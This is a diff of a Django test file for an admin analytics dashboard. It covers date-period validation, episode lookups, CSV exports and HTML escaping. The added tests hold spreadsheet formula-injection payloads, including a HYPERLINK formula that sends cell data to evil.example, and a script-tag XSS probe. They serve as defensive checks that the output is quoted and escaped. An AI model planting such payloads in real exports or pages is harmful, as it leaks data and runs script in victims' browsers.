@@ -10,19 +10,15 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
 from accounts.models import User
-from tests.analytics.rows import DAY, day_row, days
+from tests.analytics.rows import DAY, HOUR, PERIOD, day_row, days
 from tests.catalog.factories import EpisodeFactory, SeasonFactory, TitleFactory
 
 pytestmark = pytest.mark.django_db
-HOUR = 3_600_000
-PERIOD = {"from": DAY.isoformat(), "to": (DAY + days(6)).isoformat()}
 
 
 @pytest.fixture
-def editor_client(client):
-    user = User.objects.create_user(email="editor@example.com", is_staff=True)
-    user.groups.add(Group.objects.get(name="Editors"))
-    client.force_login(user)
+def editor_client(client, editor_user):
+    client.force_login(editor_user)
     return client
 
 
@@ -78,11 +74,23 @@ def test_a_title_without_figures_shows_the_empty_state(editor_client):
     assert "analytics-chart" not in html.split("</style>")[-1]
 
 
-def test_a_bad_period_falls_back_to_the_default_with_a_message(editor_client, watched):
-    response = editor_client.get(title_url(watched), {"from": "not-a-day"})
+@pytest.mark.parametrize(
+    ("query", "message"),
+    [
+        ({"from": "not-a-day"}, "must be a date as YYYY-MM-DD"),
+        ({"from": "0001-01-01", "to": "0001-01-05"}, "on or after 2000-01-01"),
+        ({"from": "2020-01-01", "to": "2026-01-01"}, "at most 366 days"),
+    ],
+)
+def test_a_bad_period_falls_back_to_the_default_with_a_message(
+    editor_client, watched, query, message
+):
+    for url in (title_url(watched), reverse("admin:analytics_overview")):
+        response = editor_client.get(url, query)
 
-    assert response.status_code == 200
-    assert "must be a date as YYYY-MM-DD" in response.content.decode()
+        assert response.status_code == 200
+        assert message in response.content.decode()
+        assert "Showing the last 28 days instead." in response.content.decode()
 
 
 def test_a_charts_csv_has_the_tables_rows(editor_client, watched):
@@ -177,7 +185,8 @@ def test_a_series_page_links_each_episodes_own_page(editor_client):
     assert f"&amp;episode={episode.pk}" in response.content.decode()  # its CSVs
     other = EpisodeFactory()
     assert editor_client.get(url, {"episode": other.pk}).status_code == 404
-    assert editor_client.get(url, {"episode": "x"}).status_code == 404
+    for bad in ("x", "²", "9" * 30):
+        assert editor_client.get(url, {"episode": bad}).status_code == 404, bad
 
 
 def test_a_title_page_takes_the_same_queries_for_one_episode_or_many(
@@ -197,3 +206,62 @@ def test_a_title_page_takes_the_same_queries_for_one_episode_or_many(
             day_row(season.title, day=DAY + days(offset), episode=episode, plays=1)
     with django_assert_max_num_queries(len(one)):
         editor_client.get(url, PERIOD)
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd", "-2+3", "@SUM(A1)"],
+)
+def test_a_csv_quotes_a_title_name_a_spreadsheet_would_run(editor_client, name):
+    title = TitleFactory(name=name)
+    day_row(title, plays=3, watch_ms=HOUR)
+
+    response = editor_client.get(
+        reverse("admin:analytics_overview_csv", args=["top-titles"]), PERIOD
+    )
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][0] == "'" + name
+    assert rows[1][1:3] == ["1.0", "0.0"]  # numbers stay numbers
+
+
+def test_a_csv_keeps_a_negative_change_a_number(editor_client, watched):
+    day_row(watched, day=DAY - days(7), plays=8, watch_ms=12 * HOUR)
+
+    response = editor_client.get(
+        reverse("admin:analytics_overview_csv", args=["top-titles"]), PERIOD
+    )
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][:4] == ["Watched <Film>", "3.0", "12.0", "-75.0"]
+
+
+def test_a_title_name_with_markup_is_escaped_in_charts_and_tables(editor_client):
+    name = """<script>alert("x")</script> & 'Co'"""
+    title = TitleFactory(name=name)
+    day_row(title, plays=2, watch_ms=HOUR, counters={"reach:0": 2})
+
+    pages = [
+        editor_client.get(reverse("admin:analytics_overview"), PERIOD),
+        editor_client.get(title_url(title), PERIOD),
+    ]
+
+    escaped = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#x27;Co&#x27;"
+    for response in pages:
+        assert response.status_code == 200
+        html = response.content.decode()
+        assert "<script>alert" not in html
+        assert escaped in html
+    overview = pages[0].content.decode()
+    svg = overview[overview.index('data-chart="top-titles"') :]
+    svg = svg[: svg.index("</svg>")]
+    assert f"<title>{escaped}: Watch hours 1</title>" in svg  # the bar's label
+    assert "&lt;script&gt;alert(&quot;…</text>" in svg  # the cut x label
+
+
+def test_staff_without_the_permission_get_a_403_for_the_overview_csv(client):
+    user = User.objects.create_user(email="staff@example.com", is_staff=True)
+    client.force_login(user)
+
+    url = reverse("admin:analytics_overview_csv", args=["top-titles"])
+    assert client.get(url).status_code == 403
